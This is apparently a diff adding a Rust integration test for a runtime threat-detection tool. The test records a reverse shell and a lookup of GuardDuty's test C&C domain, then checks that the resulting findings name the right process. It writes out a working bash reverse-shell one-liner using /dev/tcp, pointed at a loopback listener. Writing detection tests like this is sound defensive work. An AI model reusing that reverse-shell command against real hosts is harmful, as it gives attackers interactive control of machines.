@@ -1,0 +1,123 @@
+//! Runtime detection end to end: the real agent on this kernel records a reverse shell and a lookup of a
+//! GuardDuty test C&C domain, and `ward-collector detect` turns the recording into GuardDuty findings
+//! that name the process.
+
+use std::io::{Read, Write};
+use std::net::TcpListener;
+use std::process::{Command, Stdio};
+use std::time::Duration;
+
+use serde_json::Value;
+use ward_tests::{Agent, can_load_ebpf, marker, workspace_bin};
+
+const WAIT: Duration = Duration::from_secs(10);
+
+#[test]
+fn reverse_shell_and_cnc_lookup_become_findings_with_the_process() {
+    if !can_load_ebpf("reverse_shell_and_cnc_lookup_become_findings_with_the_process") {
+        return;
+    }
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let dns = ward_tests::dns_server_once();
+    let agent = Agent::start(&[
+        "--types",
+        "process_exec,process_fork,process_exit,net_stdio_socket,dns_query",
+    ]);
+    let mark = marker("detect");
+
+    // A reverse shell to a loopback listener (loopback peers must not be exempt).
+    let mut shell = Command::new("bash")
+        .args([
+            "-c",
+            &format!("exec bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1 # {mark}"),
+        ])
+        .stdin(Stdio::null())
+        .spawn()
+        .unwrap();
+    let (mut conn, _) = listener.accept().unwrap();
+    conn.write_all(b"exit\n").unwrap();
+    let _ = conn.read_to_end(&mut Vec::new());
+    shell.wait().unwrap();
+
+    // A lookup of one of GuardDuty's test C&C domains.
+    let mut lookup = Command::new("/usr/bin/python3")
+        .args([
+            "-c",
+            &ward_tests::python_dns_query("guarddutyc2activityb.com"),
+        ])
+        .spawn()
+        .unwrap();
+    let lookup_pid = lookup.id();
+    assert!(lookup.wait().unwrap().success());
+    dns.join().unwrap();
+
+    let events = agent
+        .events_until(WAIT, |e| {
+            e["type"] == "dns_query" && e["process"]["pid"] == lookup_pid
+        })
+        .expect("the agent recorded the lookup");
+    agent.stop();
+    let shell_exec = events
+        .iter()
+        .find(|e| {
+            e["type"] == "process_exec" && e["exec"]["stdio_socket"]["remote"]["port"] == port
+        })
+        .expect("the agent recorded the shell's exec")
+        .clone();
+
+    let recording = std::env::temp_dir().join(format!("{mark}.jsonl"));
+    let mut file = std::fs::File::create(&recording).unwrap();
+    for e in &events {
+        writeln!(file, "{e}").unwrap();
+    }
+    drop(file);
+    let out = Command::new(workspace_bin("ward-collector"))
+        .args([
+            "detect",
+            "--events",
+            recording.to_str().unwrap(),
+            "--instance-id",
+            "i-0123456789abcdef0",
+        ])
+        .output()
+        .unwrap();
+    std::fs::remove_file(&recording).unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let findings: Vec<Value> = String::from_utf8(out.stdout)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    let of_type = |t: &str| findings.iter().find(|f| f["type"] == t).cloned();
+
+    let shell = of_type("Execution:Runtime/ReverseShell")
+        .unwrap_or_else(|| panic!("no ReverseShell in {findings:#?}"));
+    let process = &shell["service"]["runtimeDetails"]["process"];
+    assert_eq!(process["pid"], shell_exec["process"]["pid"]);
+    assert_eq!(process["name"], "bash");
+    assert!(
+        shell["severity"].as_f64().unwrap() >= 7.0,
+        "High: {}",
+        shell["severity"]
+    );
+    assert_eq!(
+        shell["resource"]["instanceDetails"]["instanceId"],
+        "i-0123456789abcdef0"
+    );
+
+    let cnc = of_type("Backdoor:Runtime/C&CActivity.B!DNS")
+        .unwrap_or_else(|| panic!("no C&C finding in {findings:#?}"));
+    assert_eq!(
+        cnc["service"]["runtimeDetails"]["process"]["pid"],
+        lookup_pid
+    );
+    assert_eq!(
+        cnc["service"]["action"]["dnsRequestAction"]["domain"],
+        "guarddutyc2activityb.com"
+    );
+}
